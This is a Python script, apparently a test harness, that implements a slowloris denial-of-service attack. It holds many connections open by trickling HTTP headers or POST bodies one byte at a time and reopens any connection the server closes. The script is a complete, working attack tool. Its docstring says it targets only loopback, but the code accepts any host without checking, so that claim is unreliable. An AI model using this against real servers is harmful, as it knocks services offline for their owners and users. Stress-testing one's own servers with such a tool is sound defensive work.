"""slowloris.py HOST PORT CONNECTIONS SECONDS [RAMP]: holds CONNECTIONS slow
clients against an HTTP server for SECONDS, then prints one JSON line. The
connections open evenly over the first RAMP seconds (default 5), so their
deadlines do not all fall in the same instant.

Half send request headers one byte a second and never finish them; the
other half send complete POST headers announcing a 100-byte body, then one
byte of it a second. A connection the server closes is reopened (the
count of reopenings is reported), so the server faces CONNECTIONS slow
clients throughout, as an attacker would keep it. Sends only to the given
loopback address and stops by itself."""

import asyncio
import json
import sys

HEAD = b"GET /cache/slow HTTP/1.1\r\nhost: bench\r\nx-padding: " + b"a" * 4000
BODY_HEAD = (b"POST /cache HTTP/1.1\r\nhost: bench\r\ncontent-type: application/json\r\n"
             b"content-length: 100\r\n\r\n")


async def one(host, port, kind, delay, stop, stats):
    await asyncio.sleep(delay)
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_failed"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        try:
            if kind == "body":
                writer.write(BODY_HEAD)
            trickle = HEAD if kind == "headers" else b"{" + b" " * 200
            for byte in trickle:
                if stop.is_set():
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=1.0)
                except asyncio.TimeoutError:
                    continue
                if not data:
                    break
                stats["answered"] += 1
                break
        except (ConnectionError, OSError):
            pass
        finally:
            if not stop.is_set():
                stats["closed_by_server"] += 1
            writer.close()


async def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    ramp = float(sys.argv[5]) if len(sys.argv) > 5 else 5.0
    stop = asyncio.Event()
    stats = {"opened": 0, "closed_by_server": 0, "answered": 0, "connect_failed": 0}
    tasks = [asyncio.create_task(one(host, port, "headers" if i % 2 else "body",
                                     ramp * i / count, stop, stats))
             for i in range(count)]
    await asyncio.sleep(seconds)
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(stats))


asyncio.run(main())
